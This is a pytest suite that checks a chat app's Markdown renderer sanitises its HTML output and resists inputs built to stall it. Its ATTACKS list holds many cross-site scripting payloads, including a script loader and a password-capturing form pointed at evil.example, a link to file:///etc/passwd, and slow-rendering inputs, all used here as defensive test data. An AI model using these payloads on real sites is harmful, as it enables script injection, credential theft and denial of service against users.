"""Markdown becomes the HTML that the stylesheet knows, and nothing that a page must not hold."""

from collections.abc import Callable
from html.parser import HTMLParser
from itertools import pairwise

import pytest
from latex2mathml import commands

from conversations import formulas
from conversations.colouring import HIGHLIGHT_LIMIT
from conversations.rendering import render
from tests.pace import paces, seconds

pytestmark = pytest.mark.once("embedded")

MOST_PACES = 80  # for a text that is made to keep the renderer busy

TAGS = formulas.TAGS | {
    "a", "blockquote", "br", "code", "del", "div", "em", "figcaption", "figure", "h3", "h4", "h5", "h6", "hr", "li",
    "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = formulas.ATTRIBUTES | {
    "aria-label", "class", "dir", "href", "rel", "role", "scope", "start", "tabindex", "target", "title",
}  # fmt: skip

# What has opened other chats: HTML, SVG, MathML, links, images, references, fences, entities, broken nesting.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) /></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<p style='position:fixed;inset:0'>x</p>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\tjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](?q=1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '![" onerror=alert(1) x="](https://evil.example/"onerror="alert(1))',
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[x](https://e.example '\" onmouseover=\"alert(1)')",
    '[x](https://e.example/" onmouseover="alert(1))',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: https://e.example '\"><script>alert(1)</script>'",
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '```x" onclick="alert(1)\n<b>\n```',
    "    </code></pre><img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>`",
    '| <script>alert(1)</script> | " onclick=alert(1) |\n|---|--:|\n| <img src=x onerror=alert(1)> | x |',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <script>alert(1)</script>",
    "> <svg/onload=alert(1)>",
    "**<b onclick=alert(1)>x</b>**",
    "\x00<script>\x00alert(1)</script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\u202e<script>alert(1)</script>",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    "$$\n\\text{</mtext></math><img src=x onerror=alert(1)>}\n$$",
    r"\(\href{javascript:alert(1)}{x}\)",
    r"\[\style{position:fixed}{x}\class{head}{y}\]",
    r"$\unicode{60}script\unicode{62}$ $\text{&#60;script&#62;alert(1)&#60;/script&#62;}$",
    r'$\color{red" onmouseover="alert(1)}{x}$ $\hspace{9em" onclick="alert(1)}$',
    r"$<svg onload=alert(1)>$ $x<!--$ <img src=x onerror=alert(1)> $-->y$",
    r"$\begin{matrix}<annotation-xml encoding=text/html><img src=x onerror=alert(1)>\end{matrix}$",
    'https://e.example/"onmouseover="alert(1) https://e.example/<script>alert(1)</script>',
    "https://e.example/'onmouseover='alert(1) http://javascript:alert(1)",
]


class Reader(HTMLParser):
    """Collects the tags of a piece of HTML, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def check_safe(html: str) -> None:
    """Only our own tags and attributes, and links that lead out and tell nothing."""
    for tag, attributes in Reader(html).tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        if tag == "a" and "href" in attributes:
            assert str(attributes["href"]).startswith(("https://", "http://", "mailto:"))
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_comes_through(attack: str) -> None:
    check_safe(render(attack))
    check_safe(render(f"Before\n\n{attack}\n\n- item {attack}\n\n> {attack}"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_cut_anywhere_is_as_safe(attack: str) -> None:
    for cut in range(len(attack)):
        check_safe(render(attack[:cut]))
        check_safe(render(attack[cut:]))


def test_html_in_a_text_is_shown_as_it_was_written() -> None:
    assert render("a <b>bold</b> claim") == "<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>\n"


def test_headings_start_below_the_message_s_own() -> None:
    assert (
        render("# A\n## B\n### C\n#### D\n###### E") == "<h3>A</h3>\n<h4>B</h4>\n<h5>C</h5>\n<h6>D</h6>\n<h6>E</h6>\n"
    )


def test_code_names_its_language_and_is_coloured_by_the_stylesheet_s_classes() -> None:
    html = render('```python\ndef f():  # why\n    return "<" + 1\n```')
    assert '<figure class="code"><figcaption><span>python</span></figcaption>' in html
    assert '<pre dir="ltr" tabindex="0" role="region" aria-label="Python code: def f(): # why"><code>' in html
    assert '<span class="k">def</span> f():  <span class="c"># why</span>' in html
    assert '<span class="s">"&lt;"</span> + <span class="m">1</span></code></pre></figure>' in html


@pytest.mark.parametrize("fence", ["```\n{}\n```", "```nosuchlanguage\n{}\n```", "    {}"])
def test_code_without_a_known_language_is_plain(fence: str) -> None:
    assert "<code>def f(): pass</code>" in render(fence.format("def f(): pass"))


def test_code_keeps_every_character() -> None:
    code = "\n\n  a\t<b> &amp; 'c'\n\n"
    assert Reader(render(f"```python\n{code}\n```")).text.removeprefix("python").strip("\n") == code.strip("\n")
    assert f"<code>{'x' * (HIGHLIGHT_LIMIT + 1)}</code>" in render(f"```python\n{'x' * (HIGHLIGHT_LIMIT + 1)}\n```")


def test_a_table_scrolls_in_itself_and_aligns_figures_without_style_attributes() -> None:
    html = render("| Way | Time |\n|---|--:|\n| a | 1 s |")
    assert '<div class="scroll" tabindex="0" role="region" aria-label="Table: Way, Time"><table dir="auto">' in html
    assert '<th scope="col">Way</th>\n<th scope="col" class="n">Time</th>' in html
    assert '<td>a</td>\n<td class="n">1 s</td>' in html
    assert "style" not in html


def test_an_image_is_a_link_and_is_not_loaded() -> None:
    html = render("![a chart](https://e.example/c.png)")
    assert "<img" not in html
    assert '<a href="https://e.example/c.png"' in html
    assert ">Image: a chart</a>" in html
    assert render("[![logo](https://e.example/c.png)](https://e.example)").count("<a ") == 1


def test_a_link_that_is_none_of_ours_keeps_its_words() -> None:
    assert render("see [the page](/admin/)") == "<p>see <span>the page</span></p>\n"


def test_what_has_a_side_takes_that_of_its_first_letter_and_code_has_its_own() -> None:
    html = render("- `git` \u0634\u0631\u062d\n\n  - $x$\n\n> > quoted\n>\n> | a |\n> |---|\n> | b |")
    for tag in ("ul", "blockquote"):
        assert (html.count(f'<{tag} dir="auto">'), html.count(f"<{tag}>")) == (1, 1)  # the inner takes the outer's
    assert "<table>" in html
    assert '<code dir="ltr">git</code>' in html
    assert '<math dir="ltr">' in html


def test_lists_keep_their_first_number() -> None:
    assert '<ol start="3" dir="auto">' in render("3. three\n4. four")


@pytest.mark.parametrize(
    "hostile",
    [
        "[" * 5000,
        "![" * 5000,
        "*a " * 5000,
        "> " * 5000,
        "|a" * 5000 + "\n" + "|-" * 5000,
        "`" * 9999,
        "[a](b" * 4000,
        "$a $" * 5000,
        "$$" * 9999,
        "$$x\n" * 5000,
        "- $$x\n" * 2000,
        "\\[" * 9999,
        "$x\\" * 5000,
        "$" + "{" * 1999 + "$",
        "http://" * 5000,
        "https://e.example/" * 5000,
    ],
)
def test_hostile_text_does_not_keep_the_renderer_busy(hostile: str) -> None:
    assert paces(lambda: check_safe(render(hostile))) < MOST_PACES


@pytest.mark.parametrize(
    "formula",
    [
        "".join(rf"\def\{a}{{{{\{b}}}{{\{b}}}}}" for a, b in pairwise("abcdefghijklmnopqrstuvwxyz")) + r"\def\z{x}\a",
        "".join(rf"\newcommand\{a}{{{{\{b}}}{{\{b}}}}}" for a, b in pairwise("abcdefghijklmnopqrstuvwxyz")) + r"\a",
        r"\newenvironment{e}[1]{" + "#1" * 900 + r"}{}\begin{e}{" + "x" * 90 + r"}\end{e}",
        r"\sideset{}{}" * 100 + "x",
        r"\sideset{}{}{" * 25 + "x" + "}" * 25,
        r"\left1" * 200,
        r"\sqrt" * 390 + "x",
    ],
)
def test_a_hostile_formula_does_not_keep_the_renderer_busy(formula: str) -> None:
    assert paces(lambda: render(f"${formula}$")) < MOST_PACES
    html = render(f"${formula}$")
    assert len(html) < 60 * len(formula)
    check_safe(html)


def check_growth(text: Callable[[int], str], length: int) -> None:
    """Hold that rendering takes time that grows with the length: eight times as long, and not 64, for eight times as
    much; the best of three, for a machine that has other things to do.
    """

    def took(length: int) -> float:
        return min(seconds(lambda: render(text(length))) for _ in range(3))

    assert took(8 * length) < 24 * max(took(length), 0.01)


@pytest.mark.parametrize(
    ("language", "line"),
    [
        ("c++", "\n"),
        ("c", " \n"),
        ("csharp", "a\n"),
        ("yaml", "@"),
        ("python", "\t\n"),
        ("perl", "<"),
        ("html", "<!--"),
    ],
)
def test_hostile_code_does_not_keep_the_renderer_busy(language: str, line: str) -> None:
    check_growth(lambda length: f"```{language}\n{line * (length // len(line))}\n```", 2_000)


@pytest.mark.parametrize(
    "lines", ["a\n-\n", "---\n", "a|b\n-|\n", "|a|\n|-|\n- x\n", "|a|\n|-|\n> x\n", "|a|\n|-|\n|b|\n# x\n"]
)
def test_what_looks_like_tables_does_not_keep_the_renderer_busy(lines: str) -> None:
    check_growth(lambda length: lines * (length // len(lines)), 6_000)


@pytest.mark.parametrize("rows", [0, 1, 61, 62, 63, 126, 500])
@pytest.mark.parametrize("after", ["", "\n", "\ntext\n", "- item\n", "# heading\n"])
def test_a_table_ends_where_it_does(rows: int, after: str) -> None:
    html = render("|a|\n|-|\n" + "|b|\n" * rows + after)
    assert (html.count("<table"), html.count("<tr>"), html.count("<td>")) == (1, rows + 1, rows)
    assert html.partition("</table></div>\n")[2] == render(after)


def test_long_code_is_coloured_to_its_end() -> None:
    functions = [
        f'def f{number}(x):\n    """Doc.\n\n    More of it."""\n    return "a"  # b\n\n' for number in range(200)
    ]
    html = render("```python\n" + "\n".join(functions) + "```")
    assert html.count('<span class="k">def</span>') == html.count('<span class="k">return</span>') == 200
    assert html.count('<span class="s">"a"</span>') == html.count('<span class="c"># b</span>') == 200
    line = "x = 1  # " + "long " * 1000
    assert f"{line}\n" in render(f"```python\n{line}\ny = 2\n```")


@pytest.mark.parametrize("above", range(0, 1200, 97))
def test_a_text_or_comment_of_several_lines_keeps_its_colour_wherever_it_stands(above: int) -> None:
    lines = "".join(f"It's line {number} of many\n\n" for number in range(30))
    for language, begins, ends, css in (("python", '"""', '"""', "s"), ("javascript", "/* ", "*/", "c")):
        before = "x = 1\n" * (above // 6)
        html = render(f"```{language}\n{before}{begins}{lines}{ends}\nif (x): y = 2\n```")
        assert f'<span class="{css}">{begins}{lines}{ends}</span>\n<span class="k">if</span> (x)' in html
    functions = "function f() { return 1; }\n" * 60
    html = render("```php\n<?php\n" + "$x = 1;\n" * (above // 8) + functions + "```")
    assert html.count('<span class="k">function</span>') == 60


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("console", "$ git status\nOn branch main\nnothing to commit"),
        ("console", "$ cat <<E\n> a\n> b"),
        ("ps1con", "PS> ls\nx"),
        ("doscon", "C:\\> dir\nfile.txt"),
        ("erl", "1> X = 1.\n1"),
        ("iex", "iex> 1\n1"),
        ("pycon", ">>> 1\n1\n>>> def f():\n...     pass"),
        ("crystal", "<<A\n" * 200),
        ("python", "\ufeffx = 1"),
    ],
)
def test_code_is_shown_as_it_was_written(language: str, code: str) -> None:
    html = render(f"```{language}\n{code}\n```")
    assert Reader(html[html.index("<code>") :]).text.rstrip("\n") == code.rstrip("\n")


@pytest.mark.parametrize(("columns", "rows"), [(600, 109), (100, 650), (20, 3000)])
def test_a_table_is_not_much_larger_than_it_is_written(columns: int, rows: int) -> None:
    text = "|" + "a|" * columns + "\n|" + "-|" * columns + "\n" + "z\n" * rows
    html = render(text)
    assert html.count("<td") < len(text) + 200
    assert html.count("z") == rows


def test_a_table_with_empty_cells_stays_one() -> None:
    text = "|" + "a|" * 30 + "\n|" + "-|" * 30 + "\n" + ("|" * 31 + "\n") * 300 + "one\n" * 5
    html = render(text)
    assert html.count("<table") == 1
    assert html.count("<tr>") == 306
    assert html.endswith("</table></div>\n")


def test_a_text_full_of_formulas_does_not_keep_the_renderer_busy() -> None:
    text = " ".join(f"$x_{{{number}}}$" for number in range(10_000))
    assert paces(lambda: render(text)) < MOST_PACES


def test_no_command_of_a_formula_becomes_much_more_than_it_is_written() -> None:
    names = {name for name in vars(commands).values() if isinstance(name, str) and name.startswith("\\")}
    assert len(names) > 100
    forms = (f"{name}{rest}" for name in names for rest in ("", " a", "{a}", "{a}{b}", "_a^b"))
    sources = [" ".join([form] * 20) for form in forms]
    grown = {source: len(formulas.to_mathml(source, display=False)) / len(source) for source in sources}
    assert {source: times for source, times in grown.items() if times > 20} == {}


def test_the_names_of_programs_in_formulas_are_letters() -> None:
    assert render(r"$\LaTeX_a$") == (
        '<p><math dir="ltr"><mrow><msub><mrow><mtext>LaTeX</mtext></mrow><mi>a</mi></msub></mrow></math></p>\n'
    )


def test_an_ordinary_answer_is_rendered_in_no_time() -> None:
    answer = ("Some **text** with `code`.\n\n- one\n- two\n\n```python\nprint(1)\n```\n\n" * 30)[:2000]
    render(answer)
    assert paces(lambda: render(answer)) < 3


@pytest.mark.parametrize(
    "money",
    ["$5 and $10", "from $20,000 to $30,000", "US$5/US$6", "a $3-$4 range", "5$ or 6$", "cost $5 (or 5$)",
     "$HOME:$PATH",
     "$ 5 $", "\\$x\\$", "$$", "`$x$`", "$5 million, 10% of $50 million", "only $x"],
)  # fmt: skip
def test_dollars_that_are_money_stay_text(money: str) -> None:
    assert "<math" not in render(money)
    assert Reader(render(money)).text.strip() == money.replace("\\", "").replace("`", "")


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("so $x^2$ is", '<p>so <math dir="ltr"><mrow><msup><mi>x</mi><mn>2</mn></msup></mrow></math> is</p>\n'),
        (r"so \(a<b\) is", '<p>so <math dir="ltr"><mrow><mi>a</mi><mo>&lt;</mo><mi>b</mi></mrow></math> is</p>\n'),
        ("the $n$th", '<p>the <math dir="ltr"><mrow><mi>n</mi></mrow></math>th</p>\n'),
        ("so $$x$$ is", '<p>so <math dir="ltr" display="block"><mrow><mi>x</mi></mrow></math> is</p>\n'),
        ("so\n\\[\nx\n\\]", '<p>so\n<math dir="ltr" display="block"><mrow><mi>x</mi></mrow></math></p>\n'),
    ],
)
def test_formulas_in_a_line_are_mathml(text: str, html: str) -> None:
    assert render(text) == html


@pytest.mark.parametrize("text", ["$$\nx\n$$", "$$x$$", "\\[ x \\]", "\\[\nx\n\\]"])
def test_a_formula_that_has_its_lines_to_itself_scrolls_in_itself(text: str) -> None:
    assert render(text) == (
        '<div class="math" tabindex="0" role="region" aria-label="Formula: x">'
        '<math dir="ltr" display="block"><mrow><mi>x</mi></mrow></math></div>\n'
    )


def test_a_formula_that_cannot_be_read_shows_its_source() -> None:
    assert render(r"$\frac$") == '<p><code dir="ltr">\\frac</code></p>\n'
    assert '<code dir="ltr">' in render("$" + "{" * 99 + "x" + "}" * 99 + "$")


def test_whole_addresses_become_links_wherever_they_stand() -> None:
    html = render(
        "See https://e.example/a_b_c?d=1&e=2, (https://f.example) and `https://g.example`.\n\n[1]: http://h.example"
    )
    assert 'href="https://e.example/a_b_c?d=1&amp;e=2"' in html
    assert 'href="https://f.example"' in html
    assert '<code dir="ltr">https://g.example</code>' in html
    assert '[1]: <a href="http://h.example"' in html
    assert render("[a https://e.example b](https://f.example)").count("<a ") == 1
